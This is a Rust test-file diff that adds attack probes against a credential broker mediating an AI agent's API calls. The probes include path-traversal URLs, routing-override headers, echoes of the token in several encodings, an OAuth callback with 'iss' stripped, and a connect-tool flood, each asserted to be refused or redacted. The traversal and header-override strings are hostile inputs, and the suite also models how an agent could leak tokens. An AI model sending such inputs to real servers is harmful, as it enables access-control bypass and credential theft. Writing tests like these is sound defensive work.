@@ -479,6 +479,257 @@ async fn attack_probes() {
     assert_eq!(r.status(), 401, "removed client");
     count += 1;
 
+    // ---- 5. Paths some servers resolve outside the base; routing, encoding, range headers ----
+    let before = s.upstream.stats().await["requests"].as_u64().unwrap();
+    let mut escaping: Vec<(String, Value)> = [
+        format!("{api}/..;/__control/stats"),
+        format!("{api}/items;jsessionid=1"),
+        format!("{api}/..%2f__control/stats"),
+        format!("{api}/..%2F__control/stats"),
+        format!("{api}/..%5c__control/stats"),
+        format!("{api}/..%5C__control/stats"),
+    ]
+    .into_iter()
+    .map(|url| (url.clone(), json!({"method": "GET", "url": url})))
+    .collect();
+    for header in [
+        "X-Original-URL",
+        "X-Rewrite-URL",
+        "X-Forwarded-For",
+        "X-Forwarded-Host",
+        "Forwarded",
+        "X-HTTP-Method-Override",
+        "Accept-Encoding",
+        "Accept-Charset",
+        "Range",
+        "If-Range",
+    ] {
+        escaping.push((
+            header.to_string(),
+            json!({"method": "GET", "url": format!("{api}/items"), "headers": {header: "/__control/stats"}}),
+        ));
+    }
+    for (name, args) in escaping {
+        let result = mcp.tool("call_api", args).await;
+        assert_eq!(result["isError"], true, "{name}: {result}");
+        let text = text_of(&result);
+        assert!(
+            text.contains("refused") || text.contains("may not be set"),
+            "{name}: the message names the rule: {text}"
+        );
+        seen.push_str(&result.to_string());
+        count += 1;
+    }
+    assert_eq!(
+        s.upstream.stats().await["requests"].as_u64().unwrap(),
+        before,
+        "refused requests never reach the upstream"
+    );
+    // The broker asks for the body as it is, so the scrubber sees what the agent will.
+    let headers = mcp
+        .tool(
+            "call_api",
+            json!({"method": "GET", "url": format!("{api}/headers")}),
+        )
+        .await;
+    assert_eq!(
+        headers["structuredContent"]["body"]["accept-encoding"], "identity",
+        "{headers}"
+    );
+    count += 1;
+
+    // ---- 6. The token in every encoding an upstream could send it back in ----
+    for form in [
+        "plain",
+        "escaped",
+        "escaped_upper",
+        "mixed",
+        "percent",
+        "base64",
+        "base64url",
+    ] {
+        let leak = mcp
+            .tool(
+                "call_api",
+                json!({"method": "GET", "url": format!("{api}/leak?form={form}")}),
+            )
+            .await;
+        assert_eq!(leak["structuredContent"]["status"], 200, "{form}: {leak}");
+        let you_sent = leak["structuredContent"]["body"]["you_sent"]
+            .as_str()
+            .unwrap_or_default()
+            .to_string();
+        assert!(you_sent.contains("[REDACTED]"), "{form}: {leak}");
+        seen.push_str(&leak.to_string());
+        seen.push_str(&you_sent);
+        count += 1;
+    }
+    for form in ["percent", "base64url"] {
+        let created = mcp
+            .tool(
+                "call_api",
+                json!({"method": "GET", "url": format!("{api}/leak-location?form={form}")}),
+            )
+            .await;
+        let location = created["structuredContent"]["headers"]["location"]
+            .as_str()
+            .unwrap_or_default()
+            .to_string();
+        assert!(
+            location.contains("?t=") && location.contains("[REDACTED]"),
+            "{form}: {created}"
+        );
+        seen.push_str(&created.to_string());
+        count += 1;
+    }
+    let gzip = mcp
+        .tool(
+            "call_api",
+            json!({"method": "GET", "url": format!("{api}/gzip")}),
+        )
+        .await;
+    assert_eq!(gzip["isError"], true, "{gzip}");
+    assert!(text_of(&gzip).contains("gzip"), "{gzip}");
+    seen.push_str(&gzip.to_string());
+    count += 1;
+    // token‖token‖padding‖token with the third copy straddling what the broker reads.
+    let len = headers["structuredContent"]["body"]["authorization"]
+        .as_str()
+        .and_then(|a| a.split("len=").nth(1))
+        .and_then(|n| n.trim_end_matches('>').parse::<usize>().ok())
+        .unwrap();
+    let limit = broker::upstream::RESPONSE_LIMIT;
+    for pad in [
+        limit + 10 * len - len / 2,
+        limit - len - len / 2,
+        limit - 3 * len + 20,
+        100,
+    ] {
+        let cut = mcp
+            .tool(
+                "call_api",
+                json!({"method": "GET", "url": format!("{api}/leak-cut?pad={pad}")}),
+            )
+            .await;
+        assert_eq!(cut["structuredContent"]["status"], 200, "pad {pad}");
+        let body = cut["structuredContent"]["body"]
+            .as_str()
+            .unwrap()
+            .to_string();
+        for token in s.zone.issued().await {
+            assert!(
+                !body.contains(&token[..8.min(token.len())]),
+                "pad {pad}: a prefix of an issued token survived the cut"
+            );
+        }
+        seen.push_str(&body);
+        count += 1;
+    }
+
+    // ---- 7. A callback without iss, when the zone promises one (RFC 9207) ----
+    let pending = tokio::spawn({
+        let home_dir = s.home.dir.path().to_path_buf();
+        let port = s.home.port;
+        async move {
+            let mut cmd = tokio::process::Command::new(env!("CARGO_BIN_EXE_keycard-broker"));
+            cmd.args(["connect", "github", "--no-browser", "--timeout", "20"])
+                .env("KEYCARD_BROKER_HOME", &home_dir)
+                .stdout(std::process::Stdio::piped())
+                .stderr(std::process::Stdio::piped())
+                .kill_on_drop(true);
+            let mut child = cmd.spawn().unwrap();
+            use tokio::io::AsyncBufReadExt;
+            let mut lines = tokio::io::BufReader::new(child.stdout.take().unwrap()).lines();
+            let url = lines.next_line().await.unwrap().unwrap();
+            let callback =
+                testkit::authorize_until_callback(&url, &testkit::callback_prefix(port)).await;
+            let without_iss: String = url::form_urlencoded::Serializer::new(String::new())
+                .extend_pairs(callback.query_pairs().filter(|(k, _)| k != "iss"))
+                .finish();
+            let stripped = format!("http://127.0.0.1:{port}/callback?{without_iss}");
+            let delivered = testkit::deliver(&stripped).await;
+            let out = child.wait_with_output().await.unwrap();
+            (delivered, out)
+        }
+    });
+    let ((status, page), out) = pending.await.unwrap();
+    assert_eq!(status, 400, "callback without iss: {page}");
+    assert!(page.contains("iss"), "{page}");
+    assert!(!out.status.success(), "the round fails");
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("iss"),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    seen.push_str(&page);
+    count += 1;
+
+    // ---- 8. The connect tool: no state or PKCE value reaches the agent; floods are bounded ----
+    let first = mcp.tool("connect", json!({"resource": "github"})).await;
+    let text = text_of(&first);
+    let link = text
+        .split_whitespace()
+        .find(|w| w.starts_with(&format!("http://127.0.0.1:{port}/connect/")))
+        .unwrap_or_else(|| panic!("{text}"))
+        .to_string();
+    for secret_param in ["state=", "code_challenge", "authorize"] {
+        assert!(!text.contains(secret_param), "{secret_param} in {text}");
+    }
+    let again = mcp.tool("connect", json!({"resource": "github"})).await;
+    assert!(
+        text_of(&again).contains(&link),
+        "a second request reuses the round"
+    );
+    count += 1;
+    let follow = reqwest::Client::builder()
+        .redirect(reqwest::redirect::Policy::none())
+        .build()
+        .unwrap()
+        .get(&link)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(follow.status(), 303);
+    let location = follow.headers()["location"].to_str().unwrap().to_string();
+    assert!(location.starts_with(&s.zone.issuer) && location.contains("state="));
+    assert_eq!(follow.headers()["referrer-policy"], "no-referrer");
+    let unknown = reqwest::get(format!("http://127.0.0.1:{port}/connect/0123456789abcdef"))
+        .await
+        .unwrap();
+    assert_eq!(unknown.status(), 404);
+    count += 1;
+    for resource in ["gmail", "slack", "linear"] {
+        let r = mcp.tool("connect", json!({"resource": resource})).await;
+        assert_ne!(r["isError"], true, "{resource}: {r}");
+    }
+    let flood = mcp.tool("connect", json!({"resource": "sentry"})).await;
+    assert_eq!(flood["isError"], true, "{flood}");
+    assert!(text_of(&flood).contains("already waiting"), "{flood}");
+    seen.push_str(&flood.to_string());
+    count += 1;
+
+    // ---- 9. Plain http only for loopback API bases ----
+    let clear = s
+        .home
+        .run(&["resources", "add", "http://api.example.com/v1"])
+        .await;
+    assert_ne!(clear.code, 0);
+    assert!(clear.stderr.contains("https"), "{}", clear.stderr);
+    count += 1;
+
+    // ---- 10. Refused calls keep the query out of the audit log ----
+    let refused = mcp
+        .tool(
+            "call_api",
+            json!({"method": "GET", "url": "https://example.com/x?steal=s3cr3t-query"}),
+        )
+        .await;
+    assert_eq!(refused["isError"], true);
+    assert!(!text_of(&refused).contains("s3cr3t-query"));
+    let audit = s.home.ok(&["audit", "--json"]).await;
+    assert!(!audit.contains("s3cr3t-query"), "query in the audit log");
+    count += 1;
+
     println!("attack probes: {count}");
     assert!(count >= 40, "at least 40 probes ran ({count})");
     let mut secrets = s.zone.issued().await;
